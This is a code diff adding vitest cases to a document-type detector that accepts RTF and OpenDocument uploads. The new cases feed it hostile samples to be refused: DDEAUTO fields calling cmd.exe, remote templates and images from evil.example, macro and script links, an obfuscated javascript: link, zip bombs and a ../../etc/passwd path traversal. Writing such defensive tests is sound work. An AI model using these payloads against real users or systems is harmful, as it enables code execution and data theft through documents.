@@ -2,6 +2,7 @@ import { mkdtemp, rm, writeFile } from 'node:fs/promises'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { writeOdt } from '../../../test/extract/odt-writer.ts'
 import { writeTextPdf } from '../../../test/extract/pdf-writer.ts'
 import { relationships, writeDocx, writeZip, type ZipPart } from '../../../test/extract/zip-writer.ts'
 import { checkContent, detectKind } from './document-kind.ts'
@@ -36,6 +37,8 @@ describe('detectKind', () => {
     ['a Word 97 document', compound('WordDocument'), 'doc'],
     ['a PNG', png(), 'png'],
     ['a JPEG', jpg(16), 'jpg'],
+    ['rich text', Buffer.from('{\\rtf1 John}'), 'rtf'],
+    ['an OpenDocument text', writeOdt(), 'odt'],
     ['UTF-8', Buffer.from('Élodie Dupont\nIngénieure\n'), 'txt'],
     ['UTF-8 with a mark', Buffer.from('\ufeffJohn Doe'), 'txt'],
     ['UTF-16 with a mark', Buffer.from('\ufeffJohn Doe', 'utf16le'), 'txt'],
@@ -59,7 +62,11 @@ describe('detectKind', () => {
     ['a page in UTF-16', Buffer.from('\ufeff<html><script>1</script>', 'utf16le')],
     ['a drawing', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>')],
     ['XML', Buffer.from('<?xml version="1.0"?><a/>')],
-    ['rich text', Buffer.from('{\\rtf1 John}')],
+    ['rich text that begins otherwise', Buffer.from('{\\rt1 John}')],
+    [
+      'an OpenDocument spreadsheet',
+      writeOdt('', [{ name: 'mimetype', data: 'application/vnd.oasis.opendocument.spreadsheet' }]),
+    ],
     ['bytes', Buffer.from([1, 2, 3, 250, 251])],
     ['text with a NUL', Buffer.from('John\0Doe and many more words')],
     ['Cyrillic in a legacy encoding', Buffer.from('c8e2e0ed20cfe5f2f0eee2', 'hex')],
@@ -183,5 +190,74 @@ describe('checkContent of a Word document', () => {
     expect(await check(pdf)).toEqual({ ok: false, reason: 'The file was sent as a Word document but is a PDF.' })
     expect(await check(Buffer.from('John Doe'), 'application/pdf')).toMatchObject({ ok: false })
     expect(await check(pdf, 'application/x-msdownload')).toMatchObject({ ok: false })
+  })
+})
+
+describe('rich text', () => {
+  const rtf = (inner: string) => Buffer.from(`{\\rtf1\\ansi ${inner}}`)
+
+  it.each<[string, Buffer]>([
+    ['a link', rtf('{\\field{\\*\\fldinst HYPERLINK "https://example.com/link"}{\\fldrslt me}}')],
+    ['a picture', rtf('{\\pict\\pngblip 89504e47}')],
+    ['a template on a local disk', rtf('{\\*\\template C:\\\\Users\\\\me\\\\Normal.dotm}')],
+    ['bytes that are announced', rtf('{\\pict\\bin4 {{{{}')],
+  ])('may hold %s', async (_, bytes) => {
+    expect(await detectKind(bytes)).toBe('rtf')
+  })
+
+  it.each<[string, Buffer]>([
+    ['an object', rtf('{\\object\\objemb{\\*\\objdata 0105}}')],
+    ['the data of an object alone', rtf('{\\*\\objdata 0105}')],
+    ['an object that updates itself', rtf('{\\object\\objautlink\\objupdate}')],
+    ['a template from the web', rtf('{\\*\\template https://evil.example/t.dotm}')],
+    ['a template from a share', rtf('{\\*\\template \\\\\\\\evil.example\\\\t}')],
+    ['a template in numbers', rtf('{\\*\\template \\u104?\\u116?\\u116?\\u112?://evil.example}')],
+    ['a field that runs a program', rtf('{\\field{\\*\\fldinst DDEAUTO c:\\\\cmd.exe}}')],
+    ['a field spread over groups', rtf('{\\field{\\*\\fldinst {DDE}{AUTO} cmd}}')],
+    [
+      'a field within a field',
+      rtf('{\\field{\\*\\fldinst IF {\\field{\\*\\fldinst INCLUDEPICTURE "http://evil.example"}}}}'),
+    ],
+    ['groups without end', rtf('{'.repeat(5000))],
+    ['depth', rtf('{'.repeat(5000) + '}'.repeat(5000))],
+    ['a second document behind it', Buffer.concat([rtf('John'), rtf('Jane')])],
+    ['an archive behind it', Buffer.concat([rtf('John'), docx])],
+    ['a page within it', rtf('<script>alert(1)</script>')],
+  ])('is refused with %s', async (_, bytes) => {
+    expect(await detectKind(bytes)).toBeNull()
+  })
+})
+
+describe('an OpenDocument text', () => {
+  const odt = (name: string, data: string | Buffer = 'x', more: Partial<ZipPart> = {}) =>
+    writeOdt('', [{ name, data, ...more }])
+
+  it.each<[string, Buffer]>([
+    ['a link', writeOdt('<text:a xlink:href="https://example.com">me</text:a>')],
+    ['a picture of its own', writeOdt('<draw:image xlink:href="Pictures/me.png"/>')],
+  ])('may hold %s', async (_, bytes) => {
+    expect(await detectKind(bytes)).toBe('odt')
+  })
+
+  it.each<[string, Buffer]>([
+    ['macros', odt('Basic/Standard/Module1.xml', '<script:module/>')],
+    ['a script', odt('Scripts/python/run.py')],
+    ['a program', odt('Pictures/setup.exe')],
+    ['an event that runs a macro', writeOdt('<script:event-listener script:event-name="dom:load" xlink:href="x"/>')],
+    ['a link that runs a macro', writeOdt('<text:a xlink:href="vnd.sun.star.script:a?language=Basic">x</text:a>')],
+    ['a link in disguise', writeOdt('<text:a xlink:href="&#106;avascript:alert(1)">x</text:a>')],
+    ['a picture from the web', writeOdt('<draw:image xlink:href="https://evil.example/x.png"/>')],
+    ['a section from a share', writeOdt('<text:section-source xlink:href="//evil.example/x.odt"/>')],
+    ['data of another program', writeOdt('<text:dde-connection-decl office:dde-application="cmd"/>')],
+    ['an object', odt('META-INF/manifest.xml', '<m:file-entry m:media-type="application/vnd.sun.star.oleobject"/>')],
+    ['a password', odt('META-INF/manifest.xml', '<m:encryption-data/>')],
+    ['entities', odt('styles.xml', '<!DOCTYPE a [<!ENTITY l "ha">]><a>&l;</a>')],
+    ['a bomb', odt('Pictures/zeros.bin', Buffer.alloc(30_000_000))],
+    ['a bomb that lies', odt('Pictures/zeros.bin', Buffer.alloc(30_000_000), { statedSize: 10 })],
+    ['a name that climbs out', odt('../../etc/passwd')],
+    ['a Word document in it', odt('[Content_Types].xml', '<Types/>')],
+    ['another type', odt('mimetype', 'application/vnd.oasis.opendocument.text-web')],
+  ])('is refused with %s', async (_, bytes) => {
+    expect(await detectKind(bytes)).toBeNull()
   })
 })
